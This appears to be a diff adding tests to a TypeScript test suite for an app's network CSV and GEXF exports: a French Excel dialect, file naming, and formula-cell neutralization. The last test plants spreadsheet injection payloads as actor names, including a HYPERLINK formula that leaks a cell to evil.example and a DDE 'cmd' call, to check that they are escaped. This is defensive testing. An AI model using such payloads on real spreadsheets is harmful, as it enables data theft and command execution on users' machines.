@@ -5,6 +5,8 @@ import { join } from 'node:path';
 import { XMLParser } from 'fast-xml-parser';
 import { parse } from 'csv-parse/sync';
 import { startTestApp, type TestApp } from '../helpers/app';
+import { readTable, parseDecimal, parseDay } from '../../src/transfer/table';
+import { LABELS_FR } from '../../src/transfer/labels-fr';
 
 /** Exports parse back with the same nodes and edges, in our own parsers and in NetworkX. */
 describe('network exports', () => {
@@ -27,7 +29,8 @@ describe('network exports', () => {
 
   const get = async (file: string, query = 'operation=FOOD_GOVERNANCE', key: string | null = analyst) => {
     const res = await fetch(t.app.url.replace('/graphql', `/export/${file}?${query}`), { headers: key ? { authorization: `Bearer ${key}` } : {} });
-    return { status: res.status, type: res.headers.get('content-type'), text: await res.text() };
+    const bytes = Buffer.from(await res.arrayBuffer());
+    return { status: res.status, type: res.headers.get('content-type'), disposition: res.headers.get('content-disposition'), bytes, text: bytes.toString('utf8') };
   };
   const asArray = <T>(x: T | T[] | undefined): T[] => (x == null ? [] : Array.isArray(x) ? x : [x]);
 
@@ -89,5 +92,85 @@ print(json.dumps([g1.number_of_nodes(), g2.number_of_nodes(), g3.number_of_nodes
     expect(date.status).toBe(200);
     const early = (new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '' }).parse(date.text).gexf.graph.edges?.edge ?? []) as unknown[];
     expect(asArray(early).length).toBeLessThan(expected.edges.size);
+  });
+  it('dialect=excel-fr: BOM, ;, CRLF, French headers and labels, decimal comma, dd/mm/yyyy, department names', async () => {
+    const fr = await get('nodes.csv', 'operation=FOOD_GOVERNANCE&dialect=excel-fr');
+    expect(fr.status).toBe(200);
+    expect(fr.type).toMatch(/^text\/csv/);
+    expect([...fr.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(fr.text.split('\r\n')[0]).toBe('\uFEFFIdentifiant;Nom;Type;Secteur;Direction;Opérations;Degré;Proximité;Intermédiarité;Vecteur propre;PageRank;Contrainte;Communauté');
+    expect(fr.text.replace(/\r\n/g, '')).not.toMatch(/\n/);
+    const cols = ['id', 'label', 'kind', 'sector', 'department', 'operations', 'degree', 'betweenness'];
+    const aliases: Record<string, string> = { id: 'Identifiant', label: 'Nom', kind: 'Type', sector: 'Secteur', department: 'Direction', operations: 'Opérations', degree: 'Degré', betweenness: 'Intermédiarité' };
+    const frRows = readTable(fr.bytes, cols.map((name) => ({ name, aliases: [aliases[name]!] })), 'nodes.csv');
+    expect(frRows.problems).toEqual([]);
+    expect(frRows.encoding).toBe('utf-8-bom');
+    expect(frRows.separator).toBe(';');
+    expect(new Set(frRows.rows.map((r) => r.cells.id))).toEqual(expected.nodes);
+
+    const en: any[] = parse((await get('nodes.csv')).text, { columns: true });
+    const enById = new Map(en.map((n) => [n.id, n]));
+    const firstLabel = (labels: Record<string, string[]>, code: string) => labels[code]![0];
+    let decimals = 0;
+    let departments = 0;
+    for (const { cells } of frRows.rows) {
+      const e = enById.get(cells.id)!;
+      expect(cells.sector).toBe(firstLabel(LABELS_FR.Sector, e.sector));
+      expect(cells.kind).toBe(firstLabel(LABELS_FR.ActorKind, e.kind));
+      expect(cells.label).toBe(e.label);
+      // same number, written with a comma and at most Excel's 15 significant digits
+      if (e.betweenness !== '') {
+        expect(cells.betweenness).not.toContain('.');
+        expect(parseDecimal(cells.betweenness!)).toBeCloseTo(Number(e.betweenness), 12);
+        if (cells.betweenness!.includes(',')) decimals++;
+      }
+      if (e.operations) expect(cells.operations).toBe(e.operations.split(';').join(' | '));
+      const dep = e.department ? enById.get(e.department) : undefined;
+      if (dep) {
+        expect(cells.department).toBe(dep.label);
+        departments++;
+      }
+    }
+    expect(decimals).toBeGreaterThan(0);
+    expect(departments).toBeGreaterThan(0);
+
+    const edges = await get('edges.csv', 'operation=FOOD_GOVERNANCE&dialect=excel-fr');
+    const edgeRows = readTable(edges.bytes, [{ name: 'kind', aliases: ['Type de lien'] }, { name: 'since', aliases: ['Depuis'] }, { name: 'id', aliases: ['Identifiant'] }], 'edges.csv');
+    expect(new Set(edgeRows.rows.map((r) => r.cells.id))).toEqual(expected.edges);
+    const bondLabels = new Set(Object.values(LABELS_FR.BondKind).map((l) => l[0]));
+    for (const r of edgeRows.rows) expect(bondLabels.has(r.cells.kind!)).toBe(true);
+    const dated = edgeRows.rows.filter((r) => r.cells.since);
+    expect(dated.length).toBeGreaterThan(0);
+    for (const r of dated) {
+      expect(r.cells.since).toMatch(/^\d{2}\/\d{2}\/\d{4}$/);
+      expect(parseDay(r.cells.since!)).not.toBeNull();
+    }
+  });
+
+  it('names the file after the scope and its date; refuses an unknown dialect, listing the allowed ones', async () => {
+    const today = new Date().toISOString().slice(0, 10);
+    expect((await get('nodes.csv')).disposition).toBe(`attachment; filename="tesr-FOOD_GOVERNANCE-${today}-nodes.csv"`);
+    expect((await get('edges.csv', 'operation=FOOD_GOVERNANCE&asOf=2014-12-31&dialect=excel-fr')).disposition).toBe('attachment; filename="tesr-FOOD_GOVERNANCE-2014-12-31-edges.csv"');
+    expect((await get('network.gexf', '')).disposition).toBe(`attachment; filename="tesr-all-${today}-network.gexf"`);
+    const bad = await get('nodes.csv', 'operation=FOOD_GOVERNANCE&dialect=excel');
+    expect(bad.status).toBe(400);
+    const error = JSON.parse(bad.text).errors[0];
+    expect(error.extensions.code).toBe('BAD_USER_INPUT');
+    expect(error.message).toMatch(/dialect: must be one of rfc4180, excel-fr/);
+  });
+
+  it('neutralizes formula cells in nodes.csv, in both dialects', async () => {
+    const editor = await t.key('EDITOR');
+    for (const name of ['=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-1+2']) {
+      const res = await t.gql(`mutation($name: String!) { createActor(input: { name: $name, kind: ORGANIZATION, sector: ECONOMIC, source: "evil" }) { id } }`, { name }, editor);
+      expect(res.errors).toBeUndefined();
+    }
+    for (const dialect of ['rfc4180', 'excel-fr']) {
+      const { text } = await get('nodes.csv', `source=evil&dialect=${dialect}`);
+      const cells: string[][] = parse(text, { bom: true, delimiter: dialect === 'excel-fr' ? ';' : ',', from_line: 2 });
+      expect(cells.map((c) => c[1]).sort()).toEqual(["'-1+2", '\'=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")', "'@SUM(1+1)*cmd|' /C calc'!A0"]);
+      // scores stay numbers (an isolate's degree is 0)
+      expect(cells.every((c) => /^[0-9]/.test(c[6]!))).toBe(true);
+    }
   });
 });
